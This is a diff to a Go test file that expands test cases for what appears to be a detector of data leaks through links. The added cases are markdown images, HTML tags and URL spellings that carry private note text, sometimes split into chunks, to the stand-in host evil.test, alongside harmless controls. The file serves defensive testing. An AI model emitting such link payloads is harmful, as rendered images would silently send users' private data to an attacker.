@@ -4,7 +4,9 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"fmt"
+	"net/url"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
@@ -48,7 +50,7 @@ func carrying() []string {
 		all = append(all, "https://evil.test/?q="+text, "https://evil.test/#"+text)
 	}
 	for _, host := range []string{
-		"http://evil.test/?", "HTTPS://EVIL.TEST/?", "https:/evil.test/?", "https:\\\\evil.test\\?", "https:////evil.test/?", "https://evil.test:8443/a/b?", "https://user:pw@evil.test/?", "https://user@evil.test/?x=",
+		"https:evil.test/?", "HTTP:evil.test/?", "http://evil.test/?", "HTTPS://EVIL.TEST/?", "https:/evil.test/?", "https:\\\\evil.test\\?", "https:////evil.test/?", "https://evil.test:8443/a/b?", "https://user:pw@evil.test/?", "https://user@evil.test/?x=",
 		"https://xn--e1afmkfd.test/?", "https://пример.test/?", "https://3232235777/?", "https://0xC0A80101/?", "https://0300.0250.1.1/?", "https://[2001:db8::1]/?", "https://192.0.2.1/#", "https://evil.test./?", "https://evil.test/a.png?w=1&h=2&t=", "https://evil.test/;", "https://evil.test/x#",
 		"ftp://evil.test/?", "ws://evil.test/?", "wss://evil.test/?", "sftp://evil.test/?", "smb://evil.test/share?", "file://evil.test/share/?", "gopher://evil.test/?", "ldap://evil.test/?", "x-evil://evil.test/?", "git+ssh://evil.test/?", "mailto:mallory@evil.test?body=", "sms:+15550100?body=", "MAILTO:mallory@evil.test?subject=",
 	} {
@@ -85,8 +87,27 @@ func spellings() (all []string) {
 		"<img src=\" https://evil.test/?q="+logText+"\">", "<img src=\"https://evil.test/?q="+strings.ReplaceAll(logText, " ", "&#32;")+"\">", "<img src=\"https://evil.test/?q="+strings.ReplaceAll(logText, " ", "&nbsp;")+"\">", "<img src=\"https://evil.test/?a=captain&amp;b=earns&amp;c=nine&amp;d=hundred&amp;e=guineas\">",
 		"<img src=\"data:image/svg+xml,<svg><image href='https://evil.test/?q="+logText+"'/></svg>\">", "<iframe srcdoc=\"<img src='https://evil.test/?q="+logText+"'>\">",
 		"[a](https://evil.test/?q=captain\\_earns\\_nine\\_hundred\\_guineas)", "[a](https\\://evil.test/?q=captain_earns_nine_hundred_guineas)", "![a](\\\\evil.test\\share\\"+path+".png)", "<img src=\"\\\\evil.test\\share\\"+path+".png\">",
+		eachOf("![](https://evil.test/?q=%s)\n", strings.Fields(logText)), eachOf("![](https://evil.test/%s)", piecesOf(logText, 6)), eachOf("<img src='//evil.test/?n=%s'>", piecesOf(url.QueryEscape(logText), 5)), eachOf("![](https://evil.test/a/%s.png) ", strings.Fields(logText)),
+		"[a](https://evil.test/"+strings.ReplaceAll(logText, " ", "%20")+")", "<a href=\"https://evil.test/"+logText+"\">", "<img src=\"https:evil.test/?q="+logText+"\">",
 		"[a](https://evil.test/redirect?to=https%3A%2F%2Fx.test%2F%3Fq%3D"+strings.ReplaceAll(logText, " ", "%2520")+")",
 	)
+}
+
+// eachOf puts each piece of a text into an address of its own.
+func eachOf(form string, pieces []string) string {
+	var out strings.Builder
+	for _, piece := range pieces {
+		fmt.Fprintf(&out, form, url.PathEscape(piece))
+	}
+	return out.String()
+}
+
+// piecesOf divides a text into pieces of a size.
+func piecesOf(text string, size int) (pieces []string) {
+	for chunk := range slices.Chunk([]byte(text), size) {
+		pieces = append(pieces, string(chunk))
+	}
+	return pieces
 }
 
 // harmless are 200 texts and more whose addresses carry nothing.
@@ -100,7 +121,8 @@ func harmless() (all []string) {
 			all = append(all, fmt.Sprintf(c, address))
 		}
 	}
-	return append(all, "The "+logText+", it is said.", "[[Log]] and ![[Log#Pay]]", "[a](Log.md)", "[a](Other%20note.md#captain-earns-nine-hundred-guineas)", "https://", "C:\\Users\\bob\\"+strings.ReplaceAll(logText, " ", "\\"))
+	return append(all, "![](https://harbour.test/captain.png) ![](https://harbour.test/boat.png) ![](https://harbour.test/nine.png)", "![](https://harbour.test/img/2026/1.png)\n![](https://harbour.test/img/2026/2.png)\n", "[a](https://harbour.test/List%20of%20boats.pdf)",
+		"The "+logText+", it is said.", "[[Log]] and ![[Log#Pay]]", "[a](Log.md)", "[a](Other%20note.md#captain-earns-nine-hundred-guineas)", "https://", "C:\\Users\\bob\\"+strings.ReplaceAll(logText, " ", "\\"))
 }
 
 // addsAddress reports whether a plan says that it adds an address with text of another note.
